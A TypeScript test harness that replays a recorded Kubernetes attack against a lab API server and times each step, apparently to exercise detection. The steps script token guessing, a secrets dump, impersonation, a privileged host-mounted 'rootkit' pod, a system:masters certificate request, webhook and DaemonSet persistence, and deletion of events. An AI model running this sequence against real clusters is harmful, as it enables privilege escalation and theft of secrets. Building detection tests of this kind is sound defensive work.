import { readFileSync } from 'node:fs';
import https from 'node:https';
import { setTimeout as wait } from 'node:timers/promises';
import type { Lab } from '../lab.ts';

/** How a request shows who makes it. */
interface Identity {
  readonly token?: string;
  readonly cert?: Buffer;
  readonly key?: Buffer;
  readonly impersonate?: string;
}

export interface AttackStep {
  /** As in the recorded attack. */
  readonly step: string;
  readonly from: number;
  readonly to: number;
}

/**
 * The steps of the recorded attack, as requests to a lab: what was typed into kubectl there. Resolves to when each
 * step was taken, in milliseconds since 1970.
 */
export class Attack {
  readonly steps: AttackStep[] = [];
  private readonly server: URL;
  private readonly ca: Buffer;
  private readonly admin: Identity;
  private readonly agent = new https.Agent({ keepAlive: false });

  constructor(lab: Lab) {
    const pki = `${lab.folder}/root/etc/kubernetes/pki`;
    this.server = new URL(lab.server);
    this.ca = readFileSync(`${pki}/ca.crt`);
    this.admin = clientOf(readFileSync(lab.kubeconfig, 'utf8'));
  }

  /** Takes all steps; `between` is called before each. */
  async run(between: (step: string) => Promise<void>): Promise<void> {
    const nobody: Identity = {};
    let dev: Identity = {};
    const { admin } = this;
    const step = async (name: string, work: () => Promise<void>): Promise<void> => {
      await between(name);
      const from = Date.now();
      await work();
      this.steps.push({ step: name, from, to: Date.now() });
      await wait(50);
    };
    await step('quiet', async () => {
      await this.ask(admin, 'GET', '/api/v1/namespaces/default/pods?limit=500');
      await this.ask(admin, 'GET', '/api/v1/nodes?limit=500');
    });
    await step('bad-token-burst', async () => {
      for (let number = 0; number < 40; number += 1) {
        await this.ask({ token: `guess-${number}` }, 'GET', '/api/v1/namespaces/default/pods');
      }
    });
    await step('anonymous-scan', async () => {
      for (const path of scanned) await this.ask(nobody, 'GET', path);
    });
    await step('anonymous-grant', () =>
      this.create(admin, `${rbac}/clusterrolebindings`, {
        ...named('ClusterRoleBinding', 'open-door'),
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' },
        subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'system:unauthenticated' }],
      }),
    );
    await step('anonymous-allowed-read', async () => {
      await this.until(200, () => this.ask(nobody, 'GET', '/api/v1/namespaces/default/pods'));
      await this.ask(nobody, 'GET', '/api/v1/configmaps');
      await this.ask(admin, 'DELETE', `${rbac}/clusterrolebindings/open-door`);
    });
    await step('service-account-recon', async () => {
      await this.create(admin, '/api/v1/namespaces/default/serviceaccounts', named('ServiceAccount', 'dev'));
      dev = { token: await this.tokenOf('dev') };
      await this.create(dev, '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', {
        apiVersion: 'authorization.k8s.io/v1',
        kind: 'SelfSubjectRulesReview',
        spec: { namespace: 'default' },
      });
      for (const path of denied) await this.ask(dev, 'GET', path);
    });
    await step('escalation-refused', async () => {
      await this.create(admin, `${rbac}/namespaces/default/roles`, {
        ...named('Role', 'binder'),
        rules: [
          { apiGroups: ['rbac.authorization.k8s.io'], resources: ['roles', 'rolebindings'], verbs: ['create', 'get'] },
        ],
      });
      await this.create(
        admin,
        `${rbac}/namespaces/default/rolebindings`,
        binding('RoleBinding', 'binder', 'Role/binder'),
      );
      await this.until(403, () =>
        this.ask(
          dev,
          'POST',
          `${rbac}/namespaces/default/rolebindings`,
          binding('RoleBinding', 'own', 'ClusterRole/admin'),
        ),
      );
    });
    await step('cluster-admin-granted', () =>
      this.create(
        admin,
        `${rbac}/clusterrolebindings`,
        binding('ClusterRoleBinding', 'dev-admin', 'ClusterRole/cluster-admin'),
      ),
    );
    await step('secrets-dumped', async () => {
      await this.until(200, () => this.ask(dev, 'GET', '/api/v1/secrets?limit=500'));
    });
    await step('secrets-read-one-by-one', async () => {
      const list = await this.ask(admin, 'GET', '/api/v1/namespaces/kube-system/secrets?limit=500');
      const names = (list.body.items ?? []).slice(0, 14).map(({ metadata }) => metadata.name);
      for (const name of names) await this.ask(dev, 'GET', `/api/v1/namespaces/kube-system/secrets/${name}`);
    });
    await step('impersonation', async () => {
      const as = (impersonate: string): Identity => ({ ...dev, impersonate });
      await this.ask(as('system:kube-controller-manager'), 'GET', '/api/v1/namespaces/kube-system/secrets?limit=500');
    });
    await step('privileged-pod', () => this.create(dev, '/api/v1/namespaces/default/pods', rootkit));
    await step('exec-attempt', async () => {
      await this.ask(admin, 'GET', '/api/v1/namespaces/default/pods/rootkit/exec?command=id&container=c&stdout=true');
    });
    await step('token-minted', () =>
      this.create(dev, '/api/v1/namespaces/kube-system/serviceaccounts/generic-garbage-collector/token', {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenRequest',
        spec: { audiences: [], expirationSeconds: 3600 },
      }),
    );
    await step('node-proxy', async () => {
      await this.create(admin, '/api/v1/nodes', named('Node', 'localhost'));
      await this.ask(dev, 'GET', '/api/v1/nodes/localhost/proxy/pods');
    });
    await step('webhook-planted', async () => {
      await this.create(dev, `${admission}/mutatingwebhookconfigurations`, webhook);
      await this.ask(dev, 'DELETE', `${admission}/mutatingwebhookconfigurations/sidecar-tuner`);
    });
    await step('csr-refused', async () => {
      await this.ask(dev, 'POST', '/apis/certificates.k8s.io/v1/certificatesigningrequests', {
        ...named('CertificateSigningRequest', 'backdoor', 'certificates.k8s.io/v1'),
        spec: { request: mastersRequest, signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] },
      });
    });
    await step('persistence', async () => {
      await this.create(dev, '/apis/apps/v1/namespaces/kube-system/daemonsets', daemonSet);
      await this.create(dev, '/apis/batch/v1beta1/namespaces/kube-system/cronjobs', cronJob);
    });
    await step('exposure', () =>
      this.create(dev, '/api/v1/namespaces/default/services', {
        ...named('Service', 'backdoor'),
        spec: { type: 'NodePort', ports: [{ port: 80 }], selector: { app: 'rootkit' } },
      }),
    );
    await step('credentials-in-configmap', () =>
      this.create(dev, '/api/v1/namespaces/default/configmaps', {
        ...named('ConfigMap', 'app-config'),
        // The documentation's own example of a key.
        data: { AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', password: 'S3cr3t-Passw0rd' },
      }),
    );
    await step('cover-tracks', async () => {
      await this.ask(dev, 'DELETE', '/api/v1/namespaces/default/events');
    });
    await step('quiet-again', async () => {
      await this.ask(admin, 'GET', '/api/v1/namespaces/default/pods?limit=500');
    });
  }

  private async create(who: Identity, path: string, body: object): Promise<void> {
    const { status, body: answer } = await this.ask(who, 'POST', path, body);
    if (status !== 201 && status !== 200) throw new Error(`POST ${path}: ${status} ${answer.message ?? ''}`);
  }

  /** Rights take a moment to reach the authoriser. */
  private async until(status: number, work: () => Promise<Answer>): Promise<void> {
    for (let attempt = 0; attempt < 50; attempt += 1) {
      if ((await work()).status === status) return;
      await wait(100);
    }
    throw new Error(`no answer with ${status}`);
  }

  private async tokenOf(name: string): Promise<string> {
    for (let attempt = 0; attempt < 100; attempt += 1) {
      const { body } = await this.ask(this.admin, 'GET', `/api/v1/namespaces/default/serviceaccounts/${name}`);
      const secret = body.secrets?.[0]?.name;
      if (secret !== undefined) {
        const held = await this.ask(this.admin, 'GET', `/api/v1/namespaces/default/secrets/${secret}`);
        const token = held.body.data?.['token'];
        if (token !== undefined) return Buffer.from(token, 'base64').toString('utf8');
      }
      await wait(100);
    }
    throw new Error(`${name} has no token`);
  }

  private ask(who: Identity, method: string, path: string, body?: object): Promise<Answer> {
    const { cert, key, token, impersonate } = who;
    return new Promise((resolve, reject) => {
      const request = https.request(
        {
          host: this.server.hostname,
          port: this.server.port,
          path,
          method,
          ca: this.ca,
          agent: this.agent,
          ...(cert !== undefined && { cert }),
          ...(key !== undefined && { key }),
          headers: {
            'user-agent': 'attack/1.0',
            ...(body !== undefined && { 'content-type': 'application/json' }),
            ...(token !== undefined && { authorization: `Bearer ${token}` }),
            ...(impersonate !== undefined && { 'impersonate-user': impersonate }),
          },
        },
        (response) => {
          let text = '';
          response.setEncoding('utf8').on('data', (chunk: string) => {
            text += chunk;
          });
          response.on('end', () => resolve({ status: response.statusCode ?? 0, body: parsed(text) }));
        },
      );
      request.on('error', reject);
      request.end(body === undefined ? undefined : JSON.stringify(body));
    });
  }
}

interface Answer {
  readonly status: number;
  readonly body: {
    readonly message?: string;
    readonly items?: readonly { readonly metadata: { readonly name: string } }[];
    readonly secrets?: readonly { readonly name: string }[];
    readonly data?: Readonly<Record<string, string>>;
  };
}

function parsed(text: string): Answer['body'] {
  try {
    return JSON.parse(text);
  } catch {
    return {};
  }
}

function clientOf(kubeconfig: string): Identity {
  const field = (name: string): Buffer =>
    Buffer.from(new RegExp(`${name}: (\\S+)`).exec(kubeconfig)?.[1] ?? '', 'base64');
  return { cert: field('client-certificate-data'), key: field('client-key-data') };
}

const rbac = '/apis/rbac.authorization.k8s.io/v1';
const admission = '/apis/admissionregistration.k8s.io/v1';

const scanned = [
  '/api/v1/secrets',
  '/api/v1/pods',
  '/api/v1/nodes',
  '/apis/apps/v1/deployments',
  '/api/v1/namespaces/kube-system/secrets',
  '/api/v1/configmaps',
  `${rbac}/clusterroles`,
  '/logs/',
  '/metrics',
  '/debug/pprof/',
  '/api/v1/serviceaccounts',
  '/api/v1/events',
];

const denied = [
  ...Array.from({ length: 6 }, () => '/api/v1/namespaces/default/secrets?limit=500'),
  '/api/v1/namespaces/kube-system/secrets',
  '/api/v1/secrets',
  '/api/v1/nodes',
  '/api/v1/pods',
  '/api/v1/namespaces/argocd/pods',
  '/api/v1/configmaps',
  '/apis/apps/v1/deployments',
  `${rbac}/clusterroles`,
  `${rbac}/clusterrolebindings`,
  '/api/v1/namespaces',
];

function named(kind: string, name: string, apiVersion?: string): object {
  const own = kind.includes('Role') ? 'rbac.authorization.k8s.io/v1' : 'v1';
  return { apiVersion: apiVersion ?? own, kind, metadata: { name } };
}

function binding(kind: string, name: string, role: string): object {
  const [roleKind, roleName] = role.split('/');
  return {
    ...named(kind, name),
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: roleKind, name: roleName },
    subjects: [{ kind: 'ServiceAccount', name: 'dev', namespace: 'default' }],
  };
}

const container = { name: 'c', image: 'alpine', command: ['sleep', '1d'], securityContext: { privileged: true } };
const rootkit = {
  ...named('Pod', 'rootkit'),
  spec: {
    hostPID: true,
    hostNetwork: true,
    containers: [{ ...container, volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
    volumes: [{ name: 'host', hostPath: { path: '/' } }],
  },
};

const monitor = {
  metadata: { labels: { app: 'kube-monitor' } },
  spec: { containers: [{ name: 'm', image: 'alpine' }] },
};
const daemonSet = {
  ...named('DaemonSet', 'kube-monitor', 'apps/v1'),
  spec: { selector: { matchLabels: { app: 'kube-monitor' } }, template: monitor },
};
const cronJob = {
  ...named('CronJob', 'sync', 'batch/v1beta1'),
  spec: {
    schedule: '0 3 * * *',
    jobTemplate: { spec: { template: { spec: { ...monitor.spec, restartPolicy: 'Never' } } } },
  },
};

const webhook = {
  ...named('MutatingWebhookConfiguration', 'sidecar-tuner', 'admissionregistration.k8s.io/v1'),
  webhooks: [
    {
      name: 'tuner.example.com',
      clientConfig: { url: 'https://tuner.example.com/mutate' },
      rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
      failurePolicy: 'Ignore',
      sideEffects: 'None',
      admissionReviewVersions: ['v1'],
      // Nothing that this test creates itself.
      namespaceSelector: { matchLabels: { tuned: 'yes' } },
    },
  ],
};

/** A PKCS#10 request for O=system:masters, CN=backdoor, as a CSR object carries it. */
const mastersRequest = [
  'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIbk1JR09BZ0VBTUN3eEZ6QVZCZ05WQkFvTURuTjVjM1JsYlRw',
  'dFlYTjBaWEp6TVJFd0R3WURWUVFEREFoaQpZV05yWkc5dmNqQlpNQk1HQnlxR1NNNDlBZ0VHQ0NxR1NNNDlBd0VIQTBJQUJFRi9U',
  'TUMzNlQ5ejY5WW9wazE1CnRsNnROTE1yMm9zVGkvMjZJUk94K2ZyY0FmcVM2YlRmZzlDSHBZWFdQRnJtUEZKUC9NQVlzSGp1TGs2',
  'elBsR1oKK00rZ0FEQUtCZ2dxaGtqT1BRUURBZ05JQURCRkFpQUhOTlFCRS9vcXdsNEllT3VPVU54RjZacGovbDhpMHc5NApnNzEz',
  'dGlaQ2F3SWhBSitGS0RBWktLVGdpaWdtb2F5cjRjelljK0ZNRXRGMnUzN01yd3hEVVNJMwotLS0tLUVORCBDRVJUSUZJQ0FURSBS',
  'RVFVRVNULS0tLS0K',
].join('');
